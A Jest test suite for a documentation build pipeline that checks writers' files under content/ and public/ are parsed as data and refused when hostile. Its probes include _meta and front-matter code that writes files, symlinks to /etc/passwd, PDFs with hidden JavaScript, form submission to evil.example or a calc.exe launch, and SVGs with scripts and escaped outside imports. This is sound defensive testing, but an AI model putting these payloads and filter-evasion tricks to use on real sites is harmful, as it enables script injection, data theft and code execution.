/** @jest-environment node */
/**
 * A writer's files are data: what a writer commits under content/ or public/ never runs in the
 * build, and nothing there reaches outside its tree. Each probe is one a review ran as a writer;
 * each must fail the build's first step naming the file, with the writer's code not run (the
 * probes would write a marker file if they ran).
 */
import fs from 'node:fs'
import zlib from 'node:zlib'
import path from 'node:path'
import { NotAFileError, PublicFileNameError, PublicFileTypeError, ReservedPublicPathError, scanContent } from '../../pipeline/content/contentSource'
import { BadFrontMatterError, FrontMatterLanguageError } from '../../pipeline/content/frontMatter'
import { BadMetaFileError, parseMetaFile } from '../../pipeline/content/metaData'
import { checkSvg, UnsafeSvgError } from '../../pipeline/content/svgCheck'
import { pageMapInputs } from '../../pipeline/pageMaps'
import { checkContent } from '../../pipeline/steps/checkContent'
import { siteRoutes } from '../../pipeline/steps/checkRules'
import { tempSite } from '../fixtures/tempSite'

const SECTIONS = ['leads', 'internal', 'support-twilio']
const SVG = 'xmlns="http://www.w3.org/2000/svg"'
const page = (title: string) => `---\ntitle: ${title}\n---\n# ${title}\n`

/** A small site holding `files`, and the marker its probes would write if they ran. */
function site(files: Record<string, string>): { root: string; marker: string } {
  const root = tempSite('writer-', { 'content/docs/index.mdx': page('Docs'), 'content/docs/leads/intro.mdx': page('Intro'), ...files })
  return { root, marker: path.join(root, 'ran.txt') }
}

const problemsOf = (root: string) => checkContent(scanContent(root), SECTIONS)

describe('a _meta file is parsed, never run', () => {
  test.each([
    ['a require on its first line', (marker: string) => `require('fs').writeFileSync(${JSON.stringify(marker)}, 'meta ran')\nexport default { intro: 'Intro' }\n`, 1],
    ['a process hook', (marker: string) => `process.on('exit', () => require('fs').writeFileSync(${JSON.stringify(marker)}, 'x'))\nexport default { intro: 'Intro' }\n`, 1],
    ['a call in a value', (marker: string) => `export default { intro: require('fs').writeFileSync(${JSON.stringify(marker)}, 'x') || 'Intro' }\n`, 1],
    ['an import', () => `import data from './data'\nexport default data\n`, 1],
    ['an identifier', () => `export default { intro: title }\n`, 1],
    ['a spread', () => `export default { ...others, intro: 'Intro' }\n`, 1],
    ['a template with an expression', () => 'export default { intro: `${process.env.HOME}` }\n', 1],
    ['a getter', (marker: string) => `export default { get intro() { require('fs').writeFileSync(${JSON.stringify(marker)}, 'x'); return 'Intro' } }\n`, 1],
  ])('%s fails the content check at its place, and nothing ran', (_name, text, line) => {
    const { root, marker } = site({})
    fs.writeFileSync(path.join(root, 'content/docs/leads/_meta.ts'), text(marker))
    const problems = problemsOf(root)
    expect(problems.map((problem) => problem.constructor.name)).toEqual(['BadMetaFileError'])
    expect(problems[0].message).toMatch(new RegExp(`^content/docs/leads/_meta\\.ts:${line}:\\d+: .*read as data, never run`))
    // The page map reads the same entry, and runs nothing either.
    expect(() => pageMapInputs(scanContent(root)).loadMeta('/docs/leads')).toThrow(/content\/docs\/leads\/_meta\.ts:1:\d+/)
    expect(fs.existsSync(marker)).toBe(false)
  })

  test('the top-level _meta is checked too, and the page map takes its data from the source', () => {
    const { root, marker } = site({ 'content/index.mdx': page('Home') })
    fs.writeFileSync(path.join(root, 'content/_meta.ts'), `export default { index: 'Home', docs: require('fs').writeFileSync(${JSON.stringify(marker)}, 'x') }\n`)
    expect(problemsOf(root).map((problem) => problem.path)).toEqual(['content/_meta.ts'])
    expect(fs.existsSync(marker)).toBe(false)
  })

  test("Nextra's syntax is read as the object it writes, in every extension", () => {
    const text = "// Order and titles.\nexport default {\n  intro: 'Intro',\n  'api-keys': { title: \"API keys\", theme: { toc: false, layout: 'full' } },\n  guide: `Guide`,\n  n: -1.5,\n  list: [1, 'two', null, true],\n  '---': { type: 'separator' },\n}\n"
    const data = { intro: 'Intro', 'api-keys': { title: 'API keys', theme: { toc: false, layout: 'full' } }, guide: 'Guide', n: -1.5, list: [1, 'two', null, true], '---': { type: 'separator' } }
    for (const name of ['_meta.ts', '_meta.tsx', '_meta.js', '_meta.jsx', '_meta.mjs']) expect(parseMetaFile(name, text)).toEqual(data)
  })

  test('a key that would change what every object is, a repeated key, or no default export is refused', () => {
    expect(() => parseMetaFile('_meta.ts', "export default { __proto__: { polluted: 'yes' } }")).toThrow(BadMetaFileError)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect(() => parseMetaFile('_meta.ts', "export default { a: 'A', a: 'B' }")).toThrow(/written twice/)
    expect(() => parseMetaFile('_meta.ts', "const meta = { a: 'A' }\n")).toThrow(BadMetaFileError)
    expect(() => parseMetaFile('_meta.ts', '// nothing\n')).toThrow(/no `export default/)
  })

  test('a _meta.mjs is a _meta file like the others: checked, and two in one folder are refused', () => {
    const { root } = site({ 'content/docs/leads/_meta.mjs': "export default { ghost: 'Ghost' }\n", 'content/docs/leads/_meta.ts': "export default { intro: 'Intro' }\n" })
    expect(problemsOf(root).map((problem) => problem.message.split(':')[0])).toEqual(['content/docs/leads/_meta.mjs', 'content/docs/leads/_meta.ts'])
  })
})

describe('front matter is YAML, parsed once', () => {
  test.each(['js', 'javascript', 'coffee', 'yaml', 'json'])('a `---%s` front matter fails naming the file, and its code did not run', (language) => {
    const { root, marker } = site({})
    const code = `(require('fs').writeFileSync(${JSON.stringify(marker)}, 'front matter ran'), { title: 'x' })`
    fs.writeFileSync(path.join(root, 'content/docs/leads/intro.mdx'), `---${language}\n${code}\n---\n# Intro\n`)
    const source = scanContent(root)
    const problems = checkContent(source, SECTIONS)
    expect(problems).toHaveLength(1)
    expect(problems[0]).toBeInstanceOf(FrontMatterLanguageError)
    expect(problems[0].message).toMatch(/^content\/docs\/leads\/intro\.mdx:1:4: the front matter is opened with `---/)
    // Every later reader of the page (page map, Markdown, catalogs) takes the same parse.
    expect(() => source.byFile('content/docs/leads/intro.mdx')!.frontMatter).toThrow(FrontMatterLanguageError)
    expect(() => source.pageMap()).toThrow(FrontMatterLanguageError)
    expect(fs.existsSync(marker)).toBe(false)
  })

  test('a YAML tag that would make an object is not run either: the page is refused, naming the tag and its line', () => {
    const { root } = site({ 'content/docs/leads/intro.mdx': "---\ntitle: !!js/function 'function () { return 1 }'\n---\n# Intro\n" })
    const page = () => scanContent(root).byFile('content/docs/leads/intro.mdx')!.frontMatter
    expect(page).toThrow(BadFrontMatterError)
    expect(page).toThrow('content/docs/leads/intro.mdx:2:8: the front matter is not valid: Unresolved tag: tag:yaml.org,2002:js/function (a tag makes something other than text, numbers, lists and mappings).')
  })
})

describe('nothing under content/ or public/ links out of its tree', () => {
  test('a page that is a link to the build cache, and an image that is a link to /etc/passwd, fail naming the link; neither is read', () => {
    const { root } = site({ '.cache/store.json': '{"pages":{"/docs/internal/secret":{"title":"Hidden title"}}}', 'public/docs/leads/images/flow.svg': `<svg ${SVG}/>` })
    fs.symlinkSync('../../../.cache/store.json', path.join(root, 'content/docs/leads/store.md'))
    fs.symlinkSync('/etc/passwd', path.join(root, 'public/docs/leads/images/passwd.txt'))
    fs.symlinkSync(path.join(root, '.cache'), path.join(root, 'public/docs/leads/cache'))
    const source = scanContent(root)
    const problems = checkContent(source, SECTIONS)
    expect(problems.map((problem) => [problem.constructor.name, problem.path])).toEqual([
      ['NotAFileError', 'content/docs/leads/store.md'],
      ['NotAFileError', 'public/docs/leads/cache'],
      ['NotAFileError', 'public/docs/leads/images/passwd.txt'],
    ])
    expect(problems[0].message).toMatch(/is a symbolic link/)
    // What the later steps take from the source: neither the linked page nor the linked files.
    expect(source.pages.map((page) => page.route)).not.toContain('/docs/leads/store')
    expect(source.publicFiles.map((file) => file.key)).toEqual(['/docs/leads/images/flow.svg'])
    expect(siteRoutes(source)).not.toContain('/docs/leads/images/passwd.txt')
    expect([...source.reads.keys()]).toEqual(['content/docs/index.mdx', 'content/docs/leads/intro.mdx'])
  })

  test('content/ or public/ itself as a link is refused', () => {
    const { root } = site({})
    const elsewhere = tempSite('elsewhere-', { 'docs/leads/images/x.txt': 'x' })
    fs.symlinkSync(path.join(elsewhere), path.join(root, 'public'))
    expect(problemsOf(root).map((problem) => [problem.constructor.name, problem.path])).toEqual([['NotAFileError', 'public']])
  })
})

describe('public/ serves images, PDF, fonts and plain text, and SVGs that cannot run', () => {
  test('a file of another type fails naming it', () => {
    const { root } = site({ 'public/docs/leads/page.html': '<script>alert(1)</script>', 'public/docs/leads/app.js': 'alert(1)', 'public/docs/leads/guide.pdf': '%PDF-1.4\n%%EOF\n' })
    const problems = problemsOf(root)
    expect(problems.map((problem) => [problem.constructor.name, problem.path])).toEqual([
      ['PublicFileTypeError', 'public/docs/leads/app.js'],
      ['PublicFileTypeError', 'public/docs/leads/page.html'],
    ])
    expect(problems[0]).toBeInstanceOf(PublicFileTypeError)
  })

  test("a name with a character no one sees (a zero-width space, a control, a space other than a plain one, one at a name's end) fails naming it: its folder would look like another whose rule it does not take (a review)", () => {
    const refused = [
      'public/docs/internal/finance\u200b/plan.txt',
      'public/docs/internal/finance /plan.txt',
      'public/docs/leads/a\u00a0b.png',
      'public/docs/leads/x\u202e.png',
      'public/docs/leads/ lead.png',
      'public/docs/leads/flow  chart.png',
      // A review's: a grapheme joiner, a selector, the Braille blank and a Hangul filler after a letter.
      'public/docs/internal/finance\u034f/a.txt',
      'public/docs/internal/finance\ufe0f/a.txt',
      'public/docs/internal/finance\u2800/a.txt',
      'public/docs/internal/finance\u3164/a.txt',
      // A joiner inside a Latin word (a second read's), a private-use and an unassigned character.
      'public/docs/internal/re\u200cport.pdf',
      'public/docs/inter\u200dnal/a.txt',
      'public/docs/leads/x\ue000.png',
      'public/docs/leads/x\u0378.png',
    ]
    // Persian needs a zero-width non-joiner within its words; an emoji, its joiner and style selector.
    const allowed = ['public/docs/leads/flow chart.png', 'public/docs/leads/\u00e9quipe.png', 'public/docs/leads/\u8def\u7ebf.png', 'public/docs/leads/\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.png', 'public/docs/leads/\u{1f469}\u200d\u{1f4bb}.png', 'public/docs/leads/\u2764\ufe0f.png', 'public/docs/leads/\u{1f469}\u{1f3fd}\u200d\u{1f4bb}.png', 'public/docs/leads/1\ufe0f\u20e3.png', 'public/docs/leads/\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}.png', 'public/docs/leads/\u0915\u094d\u200d\u0937.png']
    const { root } = site(Object.fromEntries([...refused, ...allowed].map((file) => [file, 'x'])))
    const problems = problemsOf(root)
    expect(problems.map((problem) => [problem.constructor.name, problem.path]).sort()).toEqual([...refused].sort().map((file) => ['PublicFileNameError', file]))
    expect(problems.find((problem) => problem.path === refused[0])?.message).toBe(
      'public/docs/internal/finance\u200b/plan.txt: its path holds U+200B, a character that shows nothing of its own, or a space other than one plain space between words: it would look like another path, whose rule it does not take. Rename it in plain characters.'
    )
  })

  test("a PDF that runs, sends or carries something, or is no PDF, fails naming what it does: the browser's PDF viewer runs it outside the site's policy (a review's PDF ran an alert and a password field's script)", () => {
    const plain = '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n3 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >> endobj\n%%EOF\n'
    const script = '%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n'
    const spelt = '%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript >> >> endobj\n%%EOF\n'
    const form = '%PDF-1.4\n1 0 obj << /A << /S /SubmitForm /F (https://evil.example/c) >> >> endobj\n%%EOF\n'
    // A PDF 1.5 keeps its objects in compressed streams: the script is only there.
    const packed = zlib.deflateSync(Buffer.from('<< /Type /Action /S /Launch /F (calc.exe) >>')).toString('latin1')
    const streamed = `%PDF-1.5\n4 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n%%EOF\n`
    const files = { plain, script, spelt, form, streamed, fake: '<html>not a pdf</html>' }
    const { root } = site(Object.fromEntries(Object.entries(files).map(([name, text]) => [`public/docs/leads/files/${name}.pdf`, text])))
    fs.writeFileSync(path.join(root, 'public/docs/leads/files/streamed.pdf'), Buffer.from(streamed, 'latin1'))
    const refused = Object.fromEntries(problemsOf(root).map((problem) => [path.basename(problem.path), problem.message]))
    expect(Object.keys(refused).sort()).toEqual(['fake.pdf', 'form.pdf', 'script.pdf', 'spelt.pdf', 'streamed.pdf'])
    expect(refused['script.pdf']).toBe('public/docs/leads/files/script.pdf: this PDF is refused: it runs JavaScript. Export it again as a plain PDF (no forms, scripts, attachments or password).')
    expect(refused['spelt.pdf']).toContain('it runs JavaScript')
    expect(refused['form.pdf']).toContain('it sends a form to an address')
    expect(refused['streamed.pdf']).toContain('it launches a program or a file')
    expect(refused['fake.pdf']).toContain('it is no PDF (it has no %PDF- header)')
  })

  /** zlib data of a stored block of `stored`, then `compressed` compressed: the first's bytes are in it as they are. */
  function storedThenCompressed(stored: Buffer, compressed: Buffer): Buffer {
    const block = Buffer.from([0, stored.length & 0xff, stored.length >> 8, ~stored.length & 0xff, (~stored.length >> 8) & 0xff])
    let a = 1
    let b = 0
    for (const byte of Buffer.concat([stored, compressed])) {
      a = (a + byte) % 65521
      b = (b + a) % 65521
    }
    const adler = Buffer.alloc(4)
    adler.writeUInt32BE(((b << 16) | a) >>> 0)
    return Buffer.concat([Buffer.from([0x78, 0x01]), block, stored, zlib.deflateRawSync(compressed), adler])
  }

  test("a PDF that keeps its objects in a form the check cannot read fails, and a plain Flate one passes: a review's script hid in an ASCIIHex object stream", () => {
    const action = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'
    const stream = (dictionary: string, data: Buffer | string) => Buffer.concat([Buffer.from(`%PDF-1.5\n5 0 obj << /Type /ObjStm /N 1 /First 4 ${dictionary} >>\nstream\n`, 'latin1'), Buffer.from(data), Buffer.from('\nendstream\nendobj\n%%EOF\n')])
    const hex = (data: Buffer | string) => `${Buffer.from(data).toString('hex')}>`
    const flate = zlib.deflateSync(Buffer.from(`1 0 ${action}`))
    const files: Record<string, Buffer> = {
      hex: stream('/Filter /ASCIIHexDecode', hex(`1 0 ${action}`)),
      short: stream('/Filter /AHx', hex(`1 0 ${action}`)),
      chain: stream('/Filter [/ASCIIHexDecode /FlateDecode]', hex(flate)),
      spelt: stream('/Fil#74er /ASCII85Decode', 'ignored~>'),
      predictor: stream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', flate),
      // A string after the header could spell another header, and hide this one's filter.
      hidden: stream('/Filter /ASCIIHexDecode /Note (6 0 obj)', hex(`1 0 ${action}`)),
      // Its Flate data spells `endstream` in a stored block, and the script follows, compressed, in the next one.
      cut: stream('/Filter /FlateDecode', storedThenCompressed(Buffer.from('1 0 \nendstream\n'), Buffer.from(action))),
      // Plain objects, packed as any PDF 1.5 packs them, pass; so do an image's pixels in any form.
      plain: stream('/Filter /FlateDecode', zlib.deflateSync(Buffer.from('1 0 << /Type /Catalog /Pages 2 0 R >>'))),
      image: Buffer.from(`%PDF-1.5\n7 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter [/ASCIIHexDecode /DCTDecode] /Length 4 >>\nstream\nffd8>\nendstream\nendobj\n%%EOF\n`, 'latin1'),
    }
    const { root } = site({})
    for (const [name, bytes] of Object.entries(files)) {
      fs.mkdirSync(path.join(root, 'public/docs/leads/files'), { recursive: true })
      fs.writeFileSync(path.join(root, `public/docs/leads/files/${name}.pdf`), bytes)
    }
    const refused = Object.fromEntries(problemsOf(root).map((problem) => [path.basename(problem.path, '.pdf'), problem.message]))
    expect(Object.keys(refused).sort()).toEqual(['chain', 'cut', 'hex', 'hidden', 'predictor', 'short', 'spelt'])
    expect(refused.hex).toBe('public/docs/leads/files/hex.pdf: this PDF is refused: it keeps its objects in a stream the check cannot read (not plain or Flate alone). Export it again as a plain PDF (no forms, scripts, attachments or password).')
    expect(refused.hidden).toContain('it keeps a stream whose dictionary the check cannot read')
    expect(refused.cut).toContain('it runs JavaScript')
  })

  test('a file at a path the site makes its own files at fails naming it: the build would write over it, or serve its own in its place', () => {
    const files = [
      'public/llms.txt',
      'public/docs/leads/llms.txt',
      'public/docs/leads/llms-full-2.txt',
      'public/docs/internal/llms-full.txt/a.png',
      'public/docs/support-twilio/LLMS.txt',
      'public/_audiences/x/notes.txt',
      'public/docs/leads/_pagefind/a.txt',
      'public/_next/static/x.png',
      // Folders named like a file the build makes beside a page: its Markdown and HTML, an audience's catalog.
      'public/docs/leads/intro.md/x.png',
      'public/docs/leads/intro.HTML/x.png',
      'public/docs/pages.json/x.png',
    ]
    const allowed = ['public/docs/leads/llms-notes.txt', 'public/docs/leads/images/_shot.png', 'public/docs/leads/md/x.png', 'public/docs/leads/notes.markdown/x.png', 'public/docs/leads/pages/x.png']
    const { root } = site(Object.fromEntries([...files, ...allowed].map((file) => [file, 'x'])))
    const problems = problemsOf(root)
    expect(problems.map((problem) => [problem.constructor.name, problem.path])).toEqual(files.sort().map((file) => ['ReservedPublicPathError', file]))
    expect(problems[0]).toBeInstanceOf(ReservedPublicPathError)
    expect(problems.find((problem) => problem.path === 'public/llms.txt')?.message).toBe(
      "public/llms.txt: the site writes its own files at this path (folders whose name starts with _; names of the files the build makes in a folder: a page's HTML and Markdown, *.html and *.md, and each audience's pages.json, llms.txt and llms-full*.txt); this file would be overwritten or never served. Rename it."
    )
  })

  test.each([
    ['a script', `<svg ${SVG}><script>alert(document.cookie)</script></svg>`, /<script> is not allowed/],
    ['an event handler', `<svg ${SVG} onload="alert(1)"/>`, /event handler/],
    ['a foreignObject', `<svg ${SVG}><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`, /<foreignObject> is not allowed/],
    ['an outside reference', `<svg ${SVG} xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/x.svg#a"/></svg>`, /points outside the file/],
    ['a link', `<svg ${SVG}><a href="javascript:alert(1)"><text>x</text></a></svg>`, /<a> is not allowed/],
    ['a style sheet import', `<svg ${SVG}><style>@import url(https://evil.example/a.css);</style></svg>`, /loads or runs/],
    ['an outside url() in a style', `<svg ${SVG}><rect style="fill: url(https://evil.example/p.svg)"/></svg>`, /url\(…\) to another file/],
    ['a url() split by a comment in its style element', `<svg ${SVG}><style>svg{background:u<!-- -->rl(https://evil.example/t.png)}</style></svg>`, /url\(…\) to another file/],
    ['an import spelt with an escape, in CDATA', `<svg ${SVG}><style><![CDATA[@\\69mport "https://evil.example/x.css";]]></style></svg>`, /an escape that could spell it/],
    ['a url() spelt with an escape', `<svg ${SVG}><style>rect{fill:\\75 rl(https://evil.example/p.svg#g)}</style></svg>`, /an escape that could spell it/],
    ['a url() spelt with an escape in a presentation attribute', `<svg ${SVG}><rect width="9" height="9" mask="\\75 rl(/docs/internal/images/flow.svg#m)"/></svg>`, /an escape that could spell it/],
    ['a cursor url() spelt with an escape', `<svg ${SVG}><rect cursor="\\75 rl(/docs/internal/x.svg), auto"/></svg>`, /an escape that could spell it/],
    ['an image-set()', `<svg ${SVG}><rect style='fill: image-set("https://evil.example/p.png" 1x)'/></svg>`, /loads or runs something/],
    ['an element inside its style element, with an import after it', `<svg ${SVG}><style><g/>@import url(https://evil.example/x.css);</style></svg>`, /inside a <style> element/],
    ['a DOCTYPE', `<!DOCTYPE svg [<!ENTITY x "y">]><svg ${SVG}/>`, /DOCTYPE/],
    ['a style sheet instruction', `<?xml-stylesheet href="https://evil.example/a.css"?><svg ${SVG}/>`, /xml-stylesheet/],
    ['an HTML element by namespace', `<svg ${SVG}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`, /not an SVG element/],
    ['broken XML', `<svg ${SVG}><rect></svg>`, /not well-formed/],
  ])('an SVG with %s is refused', (_name, text, why) => {
    expect(() => checkSvg('flow.svg', text)).toThrow(UnsafeSvgError)
    expect(() => checkSvg('flow.svg', text)).toThrow(why)
    const { root } = site({ 'public/docs/leads/images/flow.svg': text })
    const problems = problemsOf(root)
    expect(problems.map((problem) => problem.constructor.name)).toEqual(['UnsafeSvgError'])
    expect(problems[0]).toBeInstanceOf(UnsafeSvgError)
    expect(problems[0].message).toMatch(/^public\/docs\/leads\/images\/flow\.svg:\d+: this SVG is refused/)
  })

  test("the site's own SVGs pass: shapes, text, markers, ids and url(#id)", () => {
    const root = path.resolve(__dirname, '../..')
    const source = scanContent(root)
    expect(source.problems).toEqual([])
    expect(source.publicFiles.filter((file) => file.key.endsWith('.svg')).length).toBeGreaterThan(0)
    expect(() => checkSvg('flow.svg', `<svg ${SVG}><defs><marker id="a"><path d="M0 0"/></marker></defs><line marker-end="url(#a)" style="fill:#fff"/></svg>`)).not.toThrow()
    // Text that is no style may say "image (1)".
    expect(() => checkSvg('flow.svg', `<svg ${SVG} aria-label="image (1)"><title>Figure: image (1)</title></svg>`)).not.toThrow()
    // Names an editor writes, which no browser reads as CSS: an id, a layer's data-name, a link's title.
    expect(() => checkSvg('flow.svg', `<svg ${SVG} xmlns:xlink="http://www.w3.org/1999/xlink" xml:lang="en"><g id="Image (2)" data-name="Element (3)" class="a b"><use xlink:href="#a" xlink:title="C:\\path"/></g></svg>`)).not.toThrow()
    // What a browser does read as CSS is checked, whatever its attribute.
    expect(() => checkSvg('flow.svg', `<svg ${SVG}><g font-family="\\75 rl(x)"/></svg>`)).toThrow(/escape that could spell it/)
  })
})

test('NotAFileError names the fix', () => {
  expect(new NotAFileError('public/x.png', 'link').message).toMatch(/replace it with a copy of the file/)
})
